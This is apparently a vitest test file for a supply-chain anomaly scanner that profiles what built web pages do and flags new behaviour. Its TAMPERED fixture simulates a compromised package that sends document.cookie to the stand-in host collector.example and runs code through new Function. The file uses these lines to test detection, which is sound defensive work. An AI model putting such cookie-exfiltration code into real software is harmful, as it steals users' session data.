import { rolldown } from 'rolldown';
import { afterEach, describe, expect, it } from 'vitest';
import type { Profile } from '../../../src/anomaly-scan/behaviour/facts.ts';
import { loadPage } from '../../../src/anomaly-scan/pages/page-load.ts';
import { Checkout } from '../../bundle/checkout.ts';
import { arenaHost } from './arena-runs.ts';
import { scan, told } from './scan.ts';

const made: Checkout[] = [];
afterEach(() => {
  for (const checkout of made.splice(0)) checkout.remove();
});

const { browser } = await arenaHost();
const PROFILE = '.reliability/behaviour.json';
const OPTIONS = {
  'site-directory': 'dist',
  pages: '/, /strict',
  browser: browser.path,
  attacks: 'false',
  profile: PROFILE,
};

const MAIN = `import { greet } from './greet.js';

localStorage.setItem('theme', 'dark');
document.cookie = 'seen=1';
new Worker('/worker.js');
navigator.serviceWorker.register('/offline.js');
fetch('/data.json');
// Another text in every load.
new Function('return ' + Math.random())();
greet();
`;
const GREET = `export function greet() {
  document.body.append('hello');
}
`;
/** What somebody put into a package by the way. */
const TAMPERED = `export function greet() {
  document.body.append('hello');
  fetch('https://collector.example/?' + document.cookie).catch(() => {});
  new Function('globalThis.planted = 1')();
  sessionStorage.setItem('marker', '1');
}
`;

/** A page that a bundler made, with minified code and a source map, and names that hold a digest. */
async function build(checkout: Checkout, sources: { readonly [path: string]: string }): Promise<void> {
  checkout.write(sources);
  const bundle = await rolldown({ input: checkout.path('src/main.js'), cwd: checkout.root });
  const { output } = await bundle.write({
    dir: checkout.path('dist/assets'),
    entryFileNames: '[name]-[hash].js',
    minify: true,
    sourcemap: true,
  });
  await bundle.close();
  const page = `<!doctype html><html><head><meta charset="utf-8"><title>Shop</title>
<script>window.start = 1</script>
<script type="module" src="/assets/${output[0].fileName}"></script></head><body></body></html>
`;
  checkout.write({
    'dist/index.html': page,
    'dist/strict.html': page,
    'dist/data.json': '{}',
    'dist/worker.js': 'postMessage(1);\n',
    'dist/offline.js': 'addEventListener("fetch", () => {});\n',
    'dist/_headers': "/strict\n  Content-Security-Policy: connect-src 'self'; img-src 'self'\n",
  });
}

async function learned(): Promise<Checkout> {
  const checkout = Checkout.of({ 'package.json': '{ "type": "module" }' });
  made.push(checkout);
  await build(checkout, { 'src/main.js': MAIN, 'src/greet.js': GREET });
  return checkout;
}

const own = (lines: readonly string[]) => lines.filter((line) => /^(?:behaviour|BEHAVIOUR)/u.test(line));

describe('what pages do', () => {
  it('is inconclusive without a profile, learned when that is asked for, and then the same', async () => {
    const checkout = await learned();
    const first = await scan(checkout, OPTIONS);
    expect(own(told(first))).toEqual(['BEHAVIOUR-NO-PROFILE']);
    const problems = first.verdict.problems ?? [first.verdict.problem];
    expect(problems.find((problem) => problem?.code === 'BEHAVIOUR-NO-PROFILE')?.hint).toContain('--update-profile');

    const update = await scan(checkout, { ...OPTIONS, 'update-profile': 'true' });
    expect(own([...told(update), ...told(update, 'notice')])).toEqual([]);
    const text = checkout.read(PROFILE);
    const { pages } = JSON.parse(text) as { readonly pages: Profile };
    expect(Object.keys(pages)).toEqual(['/', '/strict']);
    expect(pages['/']).toEqual({
      hosts: [],
      scripts: [
        expect.stringMatching(/^\/assets\/main-\*\.js sha256-/u),
        expect.stringMatching(/^\/offline\.js sha256-/u),
        expect.stringMatching(/^\/worker\.js sha256-/u),
        expect.stringMatching(/^inline sha256-/u),
      ],
      // Another one each time: neither known nor new.
      evals: [],
      storage: ['cookie seen', 'localStorage theme'],
      workers: ['/worker.js'],
      serviceWorkers: ['/offline.js'],
    });
    expect(update.verdict.metrics['behaviour']).toMatchObject({ pages: 2, new: null, unstable: 4 });

    const again = await scan(checkout, OPTIONS);
    expect(own([...told(again), ...told(again, 'notice')])).toEqual([]);
    expect(again.verdict.metrics['behaviour']).toMatchObject({ pages: 2, new: 0, vanished: 0 });
    // The next one to commit, beside the reports: the same bytes.
    expect(checkout.read('reliability-report/anomaly-scan/behaviour.json')).toBe(text);
  });

  it('is a finding at the line of the original when it is new, also where a policy stops it', async () => {
    const checkout = await learned();
    await scan(checkout, { ...OPTIONS, 'update-profile': 'true' });
    await build(checkout, { 'src/main.js': MAIN.replace("new Worker('/worker.js');\n", ''), 'src/greet.js': TAMPERED });
    const result = await scan(checkout, OPTIONS);
    const pages = ['/', '/strict'];
    expect(own(told(result))).toEqual(
      pages.flatMap(() => [
        'behaviour/new-deed @src/greet.js:3',
        'behaviour/new-deed @src/greet.js:4',
        'behaviour/new-deed',
      ]),
    );
    const messages = result.verdict.findings.map(({ message }) => message);
    for (const page of pages) {
      expect(messages).toContain(`${page} asks https://collector.example, which its profile does not know`);
      expect(messages).toContain(`${page} keeps sessionStorage marker, which its profile does not know`);
      expect(messages).toContain(`${page} no longer does what its profile says: starts the worker /worker.js`);
    }
    expect(own(told(result, 'notice'))).toContain(`behaviour/no-longer @${PROFILE}`);
    expect(result.verdict.findings.filter(({ rule }) => rule === 'behaviour/changed-script')).toHaveLength(2);
  });

  it.each<[string, { readonly [path: string]: string }, string]>([
    ['a profile that is none', { [PROFILE]: '{"version":1,"pages":{"/":{}}}' }, 'BEHAVIOUR-PROFILE'],
    [
      'a page that floods',
      {
        'dist/index.html': '<!doctype html><script>for (let i = 0; i < 9000; i++) localStorage.setItem(i, 1)</script>',
      },
      'BEHAVIOUR-NOT-LOADED',
    ],
    ['a page that is not there', { 'dist/404.html': '<!doctype html><p>not here</p>' }, 'BEHAVIOUR-NOT-LOADED'],
  ])('is inconclusive for %s', async (_, files, code) => {
    const checkout = Checkout.of({ 'dist/index.html': '<!doctype html><p>ready</p>', [PROFILE]: KNOWN, ...files });
    made.push(checkout);
    const pages = code === 'BEHAVIOUR-NOT-LOADED' && files['dist/404.html'] !== undefined ? '/nowhere' : '/';
    const result = await scan(checkout, { ...OPTIONS, pages });
    expect(own(told(result))).toEqual([code]);
    expect(result.verdict.outcome).toBe('inconclusive');
    expect(checkout.read(PROFILE)).toBe(files[PROFILE] ?? KNOWN);
  });
});

it('a page that never ends is given up on, and the browser goes on', async () => {
  const { host, browser: place } = await arenaHost();
  const answer = (text: string) => ({ status: 200, headers: [['content-type', 'text/html']] as const, body: text });
  const site = await host.listen(({ path }) =>
    answer(path === '/' ? '<script>for (;;);</script>' : '<script>localStorage.setItem("a", 1)</script>'),
  );
  const opened = await host.openBrowser(place, 20_000);
  try {
    const origin = `http://127.0.0.1:${site.port}`;
    expect(await loadPage(opened, host, origin, '/', { limitMs: 1000 })).toMatchObject({
      deeds: [],
      fault: 'it did not load in time',
    });
    const { deeds, fault } = await loadPage(opened, host, origin, '/b');
    expect(fault).toBe(undefined);
    expect(deeds.map(({ kind }) => kind)).toEqual(['storage', 'scripts']);
  } finally {
    await opened.close();
    await site.close();
  }
});

const KNOWN = `${JSON.stringify({ version: 1, pages: {} })}\n`;
